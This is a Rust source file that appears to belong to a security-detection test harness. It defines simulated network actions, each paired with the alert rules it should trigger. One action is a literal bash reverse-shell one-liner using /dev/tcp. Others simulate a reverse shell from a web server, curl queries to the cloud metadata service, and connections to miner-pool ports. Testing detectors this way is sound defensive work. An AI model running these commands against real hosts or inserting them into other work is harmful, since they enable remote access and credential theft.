//! Connections.

use crate::action::Place::Host;
use crate::action::{Action, action};

const TO_PEER: (&str, &str) = ("fd.name", "*->127.0.0.1:$PORT");

pub(crate) fn actions() -> Vec<Action> {
    [shells(), peers()].concat()
}

fn shells() -> Vec<Action> {
    vec![
        action("reverse-shell", Host, "bash -c 'bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1'; true")
            .raises("Reverse Shell in Command Line", &[("proc.name", "bash")])
            .raises("System procs network activity", &[TO_PEER, ("evt.type", "connect"), ("proc.name", "bash")])
            .raises(
                "Standard Streams of Shell on the Network",
                &[TO_PEER, ("evt.type", "dup2"), ("evt.rawres", "1"), ("proc.name", "bash")],
            )
            .raises(
                "Shell Started on Network Connection",
                &[("proc.stdin.name", "*->127.0.0.1:$PORT"), ("proc.cmdline", "bash -i"), ("evt.type", "execve")],
            ),
        action("shell-on-network", Host, "act shell-on 127.0.0.1 $PORT sh").raises(
            "Shell Started on Network Connection",
            &[("proc.stdin.name", "*->127.0.0.1:$PORT"), ("proc.name", "sh")],
        ),
        action("web-reverse-shell", Host, "act net 192.0.2.7 -- nginx spawn act streams-to-self 192.0.2.7 4443")
            .raises(
                "Reverse Shell from Web Server",
                &[("fd.name", "*->192.0.2.7:4443"), ("evt.rawres", "0"), ("proc.pname", "nginx")],
            ),
        action("streams-of-others", Host, "act streams-on 127.0.0.1 $PORT"),
        action("plain-connection", Host, "act tcp 127.0.0.1 $PORT"),
    ]
}

fn peers() -> Vec<Action> {
    vec![
        action("ssh-port", Host, "act net 192.0.2.7 -- ssh tcp-to-self 192.0.2.7 8080")
            .raises(
                "Disallowed SSH Connection Non Standard Port",
                &[("fd.name", "*->192.0.2.7:8080"), ("proc.name", "ssh")],
            )
            .raises(INBOUND, &[("evt.type", "accept4")]),
        action("ssh-usual-port", Host, "act net 10.9.8.7 -- ssh tcp-to-self 10.9.8.7 22"),
        action("datagrams", Host, "act net 192.0.2.7 -- act udp 192.0.2.7 4000")
            .raises("Unexpected UDP Traffic", &[("fd.name", "*->192.0.2.7:4000"), ("evt.type", "connect")]),
        action("datagrams-names", Host, "act net 192.0.2.7 -- act udp 192.0.2.7 53"),
        action("metadata", Host, "act net 169.254.169.254 -- curl udp 169.254.169.254 80")
            .raises(
                "Metadata Service Asked by Tool on Host",
                &[("fd.name", "*->169.254.169.254:80"), ("proc.name", "curl")],
            )
            .raises("Unexpected UDP Traffic", &[]),
        action("pool-port", Host, "act net 192.0.2.7 -- act tcp-to-self 192.0.2.7 3333")
            .raises("Detect outbound connections to common miner pool ports", &[("fd.name", "*->192.0.2.7:3333")])
            .raises(INBOUND, &[("fd.name", "192.0.2.7:*"), ("evt.type", "accept4")]),
        action("compiled-code", Host, "act net 127.0.0.2 -- java class-to-self 127.0.0.1 4443")
            .raises("Interpreted procs inbound network activity", &[("proc.name", "java")])
            .raises(
                "Java Process Class File Download",
                &[("fd.name", "*->127.0.0.1:4443"), ("evt.type", "read"), ("proc.name", "java")],
            ),
        action("script", Host, "act net 192.0.2.7 -- node tcp-to-self 192.0.2.7 80")
            .raises(INBOUND, &[("proc.name", "node")])
            .raises(
                "Interpreted procs inbound network activity",
                &[("fd.name", "*->192.0.2.7:80"), ("evt.type", "accept4")],
            )
            .raises(
                "Interpreted procs outbound network activity",
                &[("fd.name", "*->192.0.2.7:80"), ("evt.type", "connect")],
            ),
    ]
}

const INBOUND: &str = "Unexpected inbound connection source";
